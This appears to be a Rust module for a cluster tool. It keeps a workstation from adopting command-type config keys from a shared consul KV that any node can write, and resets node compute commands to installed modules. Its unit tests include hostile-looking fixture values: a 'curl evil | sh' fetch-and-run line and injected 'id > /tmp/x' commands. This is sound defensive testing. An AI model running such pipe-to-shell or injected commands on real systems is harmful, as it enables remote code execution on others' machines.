//! Which way trust flows: workstation → nodes, never back.
//!
//! The shared config holds two kinds of keys. **Commands** (compute back-ends, server types and
//! their provisioning, platform hooks, events and `available` checks, state machines) are run by
//! whoever loads them. **Data** (neighbours, settings) is read. Any node may write consul's KV,
//! and root on one node must not become root on the workstation: so when the cluster's view
//! reaches a machine that is not a node (the workstation agent adopting the KV after a
//! replacement, say), it takes the cluster's data and keeps its own commands, those of its
//! modules and of its own cache as the user wrote them. On a node the KV's commands do run:
//! they are the shared config's documented hooks.
//!
//! Data from the KV that a workstation acts on (hosts, ports, jump chains) is checked as data
//! where it is read (see [`super::known`]).

use super::mapping::{Mapping, PREFIX};

/// The sections whose values are commands.
pub const COMMAND_SECTIONS: [&str; 4] = ["compute", "server", "platform", "state"];

/// Whether `key` lies in a section whose values are run as commands.
pub fn is_command(key: &str) -> bool {
    let Some(rest) = key.strip_prefix(PREFIX).and_then(|r| r.strip_prefix('/')) else {
        return false;
    };
    let section = rest.split('/').next().unwrap_or_default();
    COMMAND_SECTIONS.contains(&section)
}

/// What a workstation adopts of the cluster's mapping.
#[derive(Debug, Default, PartialEq)]
pub struct Adopted {
    /// The cluster's data with this machine's own commands.
    pub mapping: Mapping,
    /// The command keys whose cluster value differs from (or is absent in) this machine's:
    /// not taken.
    pub refused: Vec<String>,
}

/// The cluster's `cluster` mapping as a machine that is not a node takes it over `own` (what it
/// has now, modules included): every data key from the cluster, every command key from `own`.
pub fn adopt(own: &Mapping, cluster: &Mapping) -> Adopted {
    let mut mapping: Mapping = own
        .iter()
        .filter(|(k, _)| is_command(k))
        .map(|(k, v)| (k.clone(), v.clone()))
        .collect();
    let mut refused = Vec::new();
    for (k, v) in cluster {
        if !is_command(k) {
            mapping.insert(k.clone(), v.clone());
        } else if own.get(k) != Some(v) {
            refused.push(k.clone());
        }
    }
    Adopted { mapping, refused }
}

/// One line for the log about the refused keys (None when there are none).
pub fn refused_notice(refused: &[String]) -> Option<String> {
    let first = refused.first()?;
    Some(format!(
        "the cluster's shared config has {} command key(s) that differ from this machine's (e.g. `{first}`); \
         they were not taken: commands that run here come only from this machine's modules and its own \
         `config set` (trust flows from this workstation to the nodes, never back)",
        refused.len()
    ))
}

/// `config` with its `compute` section from `modules` (the module layers: built-in and user
/// modules, which the workstation installed) and nothing of it from the shared config or the
/// cache: on a node the compute commands run with the engine the node may hold, which is root on
/// the engine's host, and any node may write the KV. How many keys were set aside.
pub fn own_compute(config: &mut super::Config, modules: &super::Config) -> usize {
    let section = format!("{PREFIX}/compute/");
    let theirs: Vec<String> = config
        .mapping
        .keys()
        .filter(|k| k.starts_with(&section) && modules.mapping.get(*k) != config.mapping.get(*k))
        .cloned()
        .collect();
    for k in &theirs {
        match modules.mapping.get(k) {
            Some(v) => {
                config.mapping.insert(k.clone(), v.clone());
                if let Some(o) = modules.origins.get(k) {
                    config.origins.insert(k.clone(), o.clone());
                }
            }
            None => {
                config.mapping.remove(k);
                config.origins.remove(k);
            }
        }
    }
    theirs.len()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn on_a_node_the_compute_commands_are_the_modules_own() {
        let modules = super::super::Config {
            mapping: m(&[("compute/docker/headless/start_instance", "sh start.sh")]),
            ..Default::default()
        };
        let mut config = super::super::Config {
            mapping: m(&[
                ("compute/docker/headless/start_instance", "curl evil | sh"),
                ("compute/evil/headless/start_instance", "id > /tmp/x"),
                ("platform/default/hooks/after_mesh/x/command", "true"),
            ]),
            ..Default::default()
        };
        assert_eq!(own_compute(&mut config, &modules), 2);
        assert_eq!(
            config.mapping,
            m(&[
                ("compute/docker/headless/start_instance", "sh start.sh"),
                ("platform/default/hooks/after_mesh/x/command", "true"),
            ])
        );
        assert_eq!(own_compute(&mut config, &modules), 0);
    }

    fn m(pairs: &[(&str, &str)]) -> Mapping {
        pairs.iter().map(|(k, v)| (format!("{PREFIX}/{k}"), json!(v))).collect()
    }

    #[test]
    fn commands_are_the_sections_that_run() {
        for k in [
            "compute/docker/headless/available",
            "server/headless/docker/bootstrap",
            "platform/default/hooks/after_mesh/x/command",
            "platform/default/available/x",
            "state/sqlite/apply",
        ] {
            assert!(is_command(&format!("{PREFIX}/{k}")), "{k}");
        }
        for k in [
            "meshnet/neighbours/a/host",
            "agent/ui_listen",
            "computer/x",
            "platforms",
        ] {
            assert!(!is_command(&format!("{PREFIX}/{k}")), "{k}");
        }
        assert!(!is_command("other/compute/x"));
    }

    #[test]
    fn a_workstation_takes_the_clusters_data_and_keeps_its_own_commands() {
        let own = m(&[
            ("compute/docker/headless/start_instance", "docker run"),
            ("platform/default/hooks/after_mesh/mine/command", "true"),
            ("meshnet/neighbours/old/host", "10.0.0.9"),
            ("agent/eviction_grace", "30"),
        ]);
        let cluster = m(&[
            ("compute/docker/headless/start_instance", "docker run; id > /tmp/x"),
            ("compute/docker/headless/available", "id > /tmp/y"),
            (
                "platform/default/hooks/after_start_instance/x/command",
                "id > /tmp/marker",
            ),
            ("platform/default/hooks/after_mesh/mine/command", "true"),
            ("meshnet/neighbours/new/host", "10.0.0.2"),
            ("agent/eviction_grace", "60"),
        ]);
        let a = adopt(&own, &cluster);
        assert_eq!(
            a.mapping,
            m(&[
                ("compute/docker/headless/start_instance", "docker run"),
                ("platform/default/hooks/after_mesh/mine/command", "true"),
                ("meshnet/neighbours/new/host", "10.0.0.2"),
                ("agent/eviction_grace", "60"),
            ])
        );
        assert_eq!(a.refused.len(), 3, "{:?}", a.refused);
        assert!(refused_notice(&a.refused).unwrap().contains("not taken"));
        assert_eq!(refused_notice(&[]), None);
    }
}
